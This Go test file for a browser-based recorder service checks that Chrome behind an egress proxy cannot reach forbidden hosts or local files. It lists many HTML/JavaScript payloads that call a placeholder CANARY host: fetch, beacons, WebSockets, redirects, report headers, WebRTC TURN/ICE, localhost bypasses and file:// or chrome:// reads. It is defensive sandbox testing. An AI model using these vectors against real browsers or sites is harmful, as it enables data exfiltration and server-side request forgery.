package recorder

import (
	"context"
	"errors"
	"fmt"
	"html"
	"net/http"
	"net/http/httptest"
	"net/url"
	"slices"
	"strings"
	"testing"

	"github.com/loom-lite/loom-lite/pkg/egress"
	"github.com/loom-lite/loom-lite/pkg/msg"
	"github.com/loom-lite/loom-lite/services/recorder/capture"
	"github.com/loom-lite/loom-lite/services/recorder/chrome"
	"github.com/loom-lite/loom-lite/services/recorder/internal/chrometest"
)

// attack is a page's way to send something to an address that is not its to reach.
type attack struct {
	name string
	// page is what attacks, with CANARY for the host and port that must not be reached, and SITE
	// for the page's own.
	page string
	// quiet: not a request that Chrome would send through a proxy, or not in every build. Of the
	// others it is known that they were tried.
	quiet bool
}

// attacks are run all together, by one page. Where a document is navigated, it is a frame's.
var attacks = []attack{
	// What HTML loads.
	{name: "img", page: `<img src="http://CANARY/a">`},
	{name: "img srcset", page: `<img srcset="http://CANARY/a 1x">`},
	{name: "picture", page: `<picture><source srcset="http://CANARY/a"><img></picture>`},
	{name: "input image", page: `<input type=image src="http://CANARY/a">`},
	{name: "background", page: `<table background="http://CANARY/a"><tr><td>a</table>`},
	{name: "svg image", page: `<svg width=9 height=9><image href="http://CANARY/a" width=9 height=9 /></svg>`},
	{name: "svg filter", page: `<svg width=9 height=9><filter id=f><feImage href="http://CANARY/a"/></filter><rect width=9 height=9 filter="url(#f)"/></svg>`},
	{name: "script", page: `<script src="http://CANARY/a"></script>`},
	{name: "module", page: `<script type=module src="http://CANARY/a"></script>`},
	{name: "import", page: `<script>import("http://CANARY/a").catch(() => {})</script>`},
	{name: "stylesheet", page: `<link rel=stylesheet href="http://CANARY/a">`},
	{name: "css import", page: `<style>@import "http://CANARY/a";</style>`},
	{name: "css background", page: `<p style='background:url("http://CANARY/a")'>a</p>`},
	{name: "font", page: `<style>@font-face{font-family:canary;src:url("http://CANARY/a")}</style><p style="font-family:canary">a</p>`},
	{name: "iframe", page: `<iframe src="http://CANARY/a"></iframe>`},
	{name: "iframe srcdoc", page: `<iframe srcdoc='<img src="http://CANARY/a">'></iframe>`},
	{name: "sandboxed iframe", page: `<iframe sandbox=allow-scripts src="http://CANARY/a"></iframe>`},
	{name: "object", page: `<object data="http://CANARY/a"></object>`},
	{name: "embed", page: `<embed src="http://CANARY/a">`},
	{name: "video", page: `<video src="http://CANARY/a" autoplay muted></video>`},
	{name: "poster", page: `<video poster="http://CANARY/a"></video>`},
	{name: "audio", page: `<audio src="http://CANARY/a" autoplay></audio>`},
	{name: "xslt", page: `<iframe src="/xslt?to=http://CANARY/a"></iframe>`, quiet: true},
	{name: "manifest", page: `<link rel=manifest href="http://CANARY/a" crossorigin>`, quiet: true},
	{name: "favicon", page: `<link rel=icon href="http://CANARY/a">`, quiet: true},
	{name: "prefetch", page: `<link rel=prefetch href="http://CANARY/a">`},
	{name: "preload", page: `<link rel=preload as=image href="http://CANARY/a">`},
	{name: "modulepreload", page: `<link rel=modulepreload href="http://CANARY/a">`},
	{name: "preconnect", page: `<link rel=preconnect href="http://CANARY">`, quiet: true},
	{name: "preconnect tls", page: `<link rel=preconnect href="https://CANARY">`, quiet: true},
	{name: "dns-prefetch", page: `<link rel=dns-prefetch href="http://CANARY">`, quiet: true},
	{name: "compression dictionary", page: `<link rel=compression-dictionary href="http://CANARY/a">`, quiet: true},
	{name: "speculation rules", page: `<script type=speculationrules>{"prefetch":[{"urls":["http://CANARY/a"],"eagerness":"immediate"}]}</script>`},
	{name: "prerender", page: `<script type=speculationrules>{"prerender":[{"urls":["http://CANARY/a"],"eagerness":"immediate"}]}</script>`, quiet: true},

	// What scripts ask for.
	{name: "fetch", page: `<script>fetch("http://CANARY/a").catch(() => {})</script>`},
	{name: "fetch no-cors", page: `<script>fetch("http://CANARY/a", {mode: "no-cors", method: "POST", body: "a"}).catch(() => {})</script>`},
	{name: "fetch keepalive", page: `<script>fetch("http://CANARY/a", {keepalive: true}).catch(() => {})</script>`},
	{name: "fetch https", page: `<script>fetch("https://CANARY/a").catch(() => {})</script>`},
	{name: "fetch localhost", page: `<script>fetch("http://localhost:PORT/a").catch(() => {})</script>`},
	{name: "fetch IPv4 within IPv6", page: `<script>fetch("http://[::ffff:127.0.0.1]:PORT/a").catch(() => {})</script>`},
	{name: "fetch a number", page: `<script>fetch("http://2130706433:PORT/a").catch(() => {})</script>`},
	{name: "XHR", page: `<script>{const x = new XMLHttpRequest; x.open("GET", "http://CANARY/a"); x.send()}</script>`},
	{name: "EventSource", page: `<script>new EventSource("http://CANARY/a")</script>`},
	{name: "WebSocket", page: `<script>new WebSocket("ws://CANARY/a")</script>`},
	{name: "WebSocket tls", page: `<script>new WebSocket("wss://CANARY/a")</script>`},
	{name: "WebSocketStream", page: `<script>{try{new WebSocketStream("ws://CANARY/a").opened.catch(() => {})}catch{}}</script>`, quiet: true},
	{name: "beacon", page: `<script>navigator.sendBeacon("http://CANARY/a", "a")</script>`},
	{name: "fetchLater", page: `<script>{try{fetchLater("https://CANARY/a", {activateAfter: 0})}catch{}}</script>`, quiet: true},
	{name: "ping", page: `<iframe name=ping></iframe><a id=ping href="about:blank" target=ping ping="http://CANARY/a">a</a><script>document.getElementById("ping").click()</script>`},
	{name: "download", page: `<iframe srcdoc='<a id=a href="http://CANARY/a" download>a</a><script>document.getElementById("a").click()</script>'></iframe>`},
	// no other window opens at all
	{name: "popup", page: `<script>open("http://CANARY/a")</script>`, quiet: true},
	{name: "form", page: `<iframe name=form></iframe><form id=form method=post action="http://CANARY/a" target=form><input name=a></form><script>document.getElementById("form").submit()</script>`},
	{name: "location", page: `<iframe srcdoc='<script>location = "http://CANARY/a"</script>'></iframe>`},
	{name: "meta refresh", page: `<iframe srcdoc='<meta http-equiv=refresh content="0;url=http://CANARY/a">'></iframe>`},
	{name: "blob frame", page: `<script>{const f = document.createElement("iframe"); f.src = URL.createObjectURL(new Blob(['<img src="http://CANARY/a">'], {type: "text/html"})); document.documentElement.append(f)}</script>`},
	{name: "data frame", page: `<iframe src='data:text/html,<img src="http://CANARY/a">'></iframe>`},
	{name: "worker", page: `<script>new Worker("/script?run=" + encodeURIComponent('fetch("http://CANARY/a").catch(() => {})'))</script>`},
	{name: "importScripts", page: `<script>new Worker("/script?run=" + encodeURIComponent('importScripts("http://CANARY/a")'))</script>`},
	{name: "worker's WebSocket", page: `<script>new Worker("/script?run=" + encodeURIComponent('new WebSocket("ws://CANARY/a")'))</script>`},
	{name: "shared worker", page: `<script>new SharedWorker("/script?run=" + encodeURIComponent('fetch("http://CANARY/a").catch(() => {})'))</script>`},
	{name: "service worker", page: `<script>navigator.serviceWorker.register("/script?run=" + encodeURIComponent('oninstall = e => e.waitUntil(fetch("http://CANARY/a").catch(() => {}))'))</script>`},
	{name: "background fetch", page: `<script>navigator.serviceWorker.ready.then(r => r.backgroundFetch.fetch("a", "http://CANARY/a")).catch(() => {})</script>`, quiet: true},
	{name: "worklet", page: `<script>CSS.paintWorklet.addModule("http://CANARY/a").catch(() => {})</script>`},
	{name: "attribution", page: `<img attributionsrc="http://CANARY/a">`, quiet: true},
	{name: "federated login", page: `<script>navigator.credentials.get({identity: {providers: [{configURL: "http://CANARY/a", clientId: "a"}]}}).catch(() => {})</script>`, quiet: true},
	{name: "payment", page: `<script>{try{new PaymentRequest([{supportedMethods: "https://CANARY/a"}], {total: {label: "a", amount: {currency: "EUR", value: "1"}}}).canMakePayment().catch(() => {})}catch{}}</script>`, quiet: true},

	// What the site's answers lead to.
	{name: "301", page: `<img src="/redirect?status=301&to=http://CANARY/a">`},
	{name: "302", page: `<script>fetch("/redirect?status=302&to=http://CANARY/a").catch(() => {})</script>`},
	{name: "303", page: `<iframe src="/redirect?status=303&to=http://CANARY/a"></iframe>`},
	{name: "307", page: `<script src="/redirect?status=307&to=http://CANARY/a"></script>`},
	{name: "308", page: `<video src="/redirect?status=308&to=http://CANARY/a"></video>`},
	{name: "redirected WebSocket", page: `<script>new WebSocket("ws://SITE/redirect?status=302&to=http://CANARY/a")</script>`, quiet: true},
	{name: "Refresh header", page: `<iframe src="/header?name=Refresh&value=0%3Burl=http://CANARY/a"></iframe>`},
	{name: "Link header", page: `<iframe src="/header?name=Link&value=<http://CANARY/a>%3Brel=preload%3Bas=image"></iframe>`},
	{name: "CSP report", page: `<iframe src="/header?name=Content-Security-Policy&value=script-src 'none'%3Breport-uri http://CANARY/a"></iframe>`},
	{name: "reporting endpoint", page: `<iframe src="/header?name=Reporting-Endpoints&value=a=%22http://CANARY/a%22"></iframe>`, quiet: true},
	{name: "network error logging", page: `<iframe src="/nel?to=http://CANARY/a"></iframe>`, quiet: true},
	{name: "alternative service", page: `<iframe src="/header?name=Alt-Svc&value=h3=%22CANARY%22,h2=%22CANARY%22"></iframe>`, quiet: true},

	// What would read this machine's files, and Chrome's own pages.
	{name: "file image", page: `<img src="FILE">`, quiet: true},
	{name: "file frame", page: `<iframe src="FILE"></iframe>`, quiet: true},
	{name: "file object", page: `<object data="FILE"></object><embed src="FILE">`, quiet: true},
	{name: "file script", page: `<script src="FILE"></script><link rel=stylesheet href="FILE">`, quiet: true},
	{name: "file fetch", page: `<script>fetch("FILE").catch(() => {})</script>`, quiet: true},
	{name: "file XHR", page: `<script>{const x = new XMLHttpRequest; x.open("GET", "FILE"); x.send()}</script>`, quiet: true},
	{name: "file worker", page: `<script>{try{new Worker("FILE")}catch{}}</script>`, quiet: true},
	{name: "file in a worker", page: `<script>new Worker("/script?run=" + encodeURIComponent('importScripts("FILE")'))</script>`, quiet: true},
	{name: "file popup", page: `<script>open("FILE"); open("view-source:FILE")</script>`, quiet: true},
	{name: "file location", page: `<iframe srcdoc='<script>location = "FILE"</script>'></iframe>`, quiet: true},
	{name: "file refresh", page: `<iframe srcdoc='<meta http-equiv=refresh content="0;url=FILE">'></iframe>`, quiet: true},
	{name: "file link", page: `<a id=file href="FILE" target=_blank>a</a><script>document.getElementById("file").click()</script>`, quiet: true},
	{name: "file form", page: `<form id=ff action="FILE" target=_blank></form><script>document.getElementById("ff").submit()</script>`, quiet: true},
	{name: "file redirect", page: `<iframe src="/redirect?to=FILE"></iframe><img src="/redirect?to=FILE"><script>fetch("/redirect?to=FILE").catch(() => {})</script>`, quiet: true},
	{name: "file in svg", page: `<svg width=9 height=9><image href="FILE" width=9 height=9 /><use href="FILE#a" /></svg>`, quiet: true},
	{name: "file font", page: `<style>@font-face{font-family:file;src:url("FILE")}</style><p style="font-family:file">a</p>`, quiet: true},
	{name: "file in a blob", page: `<script>{const f = document.createElement("iframe"); f.src = URL.createObjectURL(new Blob(['<iframe src="FILE"></iframe>'], {type: "text/html"})); document.documentElement.append(f)}</script>`, quiet: true},
	{name: "Chrome's pages", page: `<script>for (const u of ["chrome://version", "chrome://crash", "devtools://devtools/bundled/inspector.html", "chrome-extension://a/b", "view-source:http://SITE/"]) { open(u); fetch(u).catch(() => {}); const f = document.createElement("iframe"); f.src = u; document.documentElement.append(f) }</script>`, quiet: true},

	// What speaks other protocols than HTTP.
	{name: "WebTransport", page: `<script>new WebTransport("https://CANARY/a").ready.catch(() => {})</script>`, quiet: true},
	{name: "WebTransport with a hash", page: `<script>new WebTransport("https://CANARY/a", {serverCertificateHashes: [{algorithm: "sha-256", value: new Uint8Array(32)}]}).ready.catch(() => {})</script>`, quiet: true},
	{name: "STUN", page: `<script>rtc({urls: "stun:CANARY"})</script>`, quiet: true},
	{name: "TURN", page: `<script>rtc({urls: "turn:CANARY", username: "a", credential: "a"})</script>`, quiet: true},
	{name: "TURN over TCP", page: `<script>rtc({urls: "turn:CANARY?transport=tcp", username: "a", credential: "a"})</script>`},
	{name: "TURN over TLS", page: `<script>rtc({urls: "turns:CANARY?transport=tcp", username: "a", credential: "a"})</script>`},
	{name: "ICE candidate", page: `<script>peer("CANARY")</script>`, quiet: true},
	{name: "ICE candidate by name", page: `<script>peer("localhost:PORT"); peer("d2d5a0b1-2b3c-4d5e-8f90-123456789abc.local:PORT")</script>`, quiet: true},
}

// webRTC declares rtc, which gathers candidates by a server, and peer, which sends checks to an
// address. What they find out of this machine is told to the site.
const webRTC = `<script>
function tell(e) { if (e.candidate && e.candidate.candidate) fetch("/candidate?" + encodeURIComponent(e.candidate.candidate)) }
async function rtc(server) {
	const c = new RTCPeerConnection({iceServers: server ? [server] : []})
	c.onicecandidate = tell
	c.createDataChannel("a")
	await c.setLocalDescription(await c.createOffer())
	return c
}
async function peer(at) {
	const a = await rtc(), b = new RTCPeerConnection
	await b.setRemoteDescription(a.localDescription)
	await b.setLocalDescription(await b.createAnswer())
	const i = at.lastIndexOf(":")
	const host = " typ host generation 0 ufrag " + b.localDescription.sdp.match(/ice-ufrag:(\S+)/)[1]
	await a.setRemoteDescription(b.localDescription)
	for (const kind of ["1 udp", "1 tcp"])
		await a.addIceCandidate({sdpMid: "0", candidate: "candidate:1 " + kind + " 2122260223 " + at.slice(0, i) + " " + at.slice(i + 1) + host + (kind == "1 tcp" ? " tcptype passive" : "")}).catch(() => {})
}
</script>`

// attacking serves a page that runs all attacks on the canaries, and what they need.
func attacking(t *testing.T, w *watch) *httptest.Server {
	t.Helper()
	mux := http.NewServeMux()
	mux.HandleFunc("/{$}", func(rw http.ResponseWriter, r *http.Request) {
		rw.Header().Set("Content-Type", "text/html; charset=utf-8")
		_, _ = fmt.Fprint(rw, "<!doctype html><title>attack</title>", webRTC)
		for _, a := range attacks {
			page := strings.NewReplacer("CANARY", w.canaries[a.name], "PORT", w.port(a.name), "SITE", r.Host, "FILE", "file://"+w.file).Replace(a.page)
			_, _ = fmt.Fprintf(rw, "<div>%s</div>\n", page)
		}
		_, _ = fmt.Fprint(rw, `<script>let n = 0; requestAnimationFrame(function f() { document.title = ++n; requestAnimationFrame(f) })</script>`)
	})
	mux.HandleFunc("/redirect", redirect)
	mux.HandleFunc("/script", func(rw http.ResponseWriter, r *http.Request) {
		rw.Header().Set("Content-Type", "text/javascript")
		_, _ = fmt.Fprint(rw, r.FormValue("run"))
	})
	mux.HandleFunc("/header", func(rw http.ResponseWriter, r *http.Request) {
		rw.Header().Set(r.FormValue("name"), r.FormValue("value"))
		rw.Header().Set("Content-Type", "text/html")
		_, _ = fmt.Fprint(rw, `<!doctype html><script>1</script>`)
	})
	mux.HandleFunc("/nel", func(rw http.ResponseWriter, r *http.Request) {
		rw.Header().Set("Report-To", fmt.Sprintf(`{"group":"a","max_age":60,"endpoints":[{"url":%q}]}`, r.FormValue("to")))
		rw.Header().Set("NEL", `{"report_to":"a","max_age":60,"success_fraction":1}`)
	})
	mux.HandleFunc("/xslt", func(rw http.ResponseWriter, r *http.Request) {
		rw.Header().Set("Content-Type", "text/xml")
		_, _ = fmt.Fprintf(rw, `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="%s"?><a/>`, html.EscapeString(r.FormValue("to")))
	})
	mux.HandleFunc("/candidate", func(_ http.ResponseWriter, r *http.Request) {
		candidate, _ := url.QueryUnescape(r.URL.RawQuery)
		w.told(candidate)
	})
	srv := httptest.NewServer(mux)
	t.Cleanup(func() {
		srv.CloseClientConnections()
		srv.Close()
	})
	return srv
}

// redirect answers with the status and the Location that it is asked for, as they are written.
func redirect(w http.ResponseWriter, r *http.Request) {
	status := http.StatusFound
	_, _ = fmt.Sscan(r.FormValue("status"), &status)
	w.Header().Set("Location", r.FormValue("to"))
	w.WriteHeader(status)
}

// TestPagesReachNothingThatIsRefused runs all attacks, sees each of them refused by the proxy, and
// nothing arrive.
func TestPagesReachNothingThatIsRefused(t *testing.T) {
	w := newWatch(t, attacks)
	site := attacking(t, w)
	secret := watchFile(t)
	w.file = secret.path

	browser := chrometest.Start(t, strings.TrimPrefix(site.URL, "http://"), chrome.Options{Width: 320, Height: 180})
	defer browser.End()

	untried := func() (names []string) {
		for _, a := range attacks {
			if a.quiet || slices.ContainsFunc(w.forms(a.name), func(hostport string) bool {
				return errors.Is(browser.Proxy.Failure(hostport), egress.ErrRefused)
			}) {
				continue
			}
			names = append(names, a.name)
		}
		return names
	}
	ctx, enough := context.WithCancel(t.Context())
	defer enough()
	const (
		most  = 6000 // frames: the page's time for its attacks
		after = 120  // frames more, when all that are known to come have come
	)
	last, through := most, 0
	err := capture.Run(ctx, capture.Browser{Client: browser.Client, Kill: browser.Kill}, capture.Options{
		URL: site.URL, Width: 320, Height: 180, Rate: msg.FPS(60), Frames: most, Quality: 50, Bounds: capture.DefaultBounds,
		Unreached: browser.Proxy.Failure,
		Progress: func(frames int) {
			switch {
			case frames == last:
				sockets := socketsOf(t, browser.Group())
				for _, s := range sockets {
					if s.remote == browser.Proxy.Addr() {
						through++
					}
					// WebRTC opens UDP sockets and is not let to use them. That of multicast DNS
					// could be used.
					idle := strings.HasPrefix(s.protocol, "udp") && strings.HasSuffix(s.remote, ":0") && !strings.HasSuffix(s.local, ":5353")
					if !idle && s.remote != browser.Proxy.Addr() {
						t.Errorf("Chrome has a socket around the proxy: %s, %s to %s", s.protocol, s.local, s.remote)
					}
				}
				showsOnlyPages(t, browser.Process)
				enough()
			case last == most && frames%20 == 0 && len(untried()) == 0:
				last = frames + after
			}
		},
	}, &nowhere{})
	if err != nil && !errors.Is(err, context.Canceled) {
		t.Fatal(err)
	}
	if names := untried(); len(names) > 0 {
		t.Errorf("not tried, or not refused: %s", strings.Join(names, ", "))
	}
	if through == 0 {
		t.Error("no socket of Chrome's was found, not even to the proxy")
	}
	w.check(t)
	secret.check(t)
}

// showsOnlyPages fails when a page of the browser, popups included, shows a file or what is
// Chrome's own.
func showsOnlyPages(t *testing.T, p *chrome.Process) {
	t.Helper()
	for _, target := range targets(t, p) {
		switch scheme, _, _ := strings.Cut(target.URL, ":"); scheme {
		case "file", "chrome", "devtools", "view-source", "filesystem":
			t.Errorf("a %s shows %s", target.Type, target.URL)
		}
	}
}
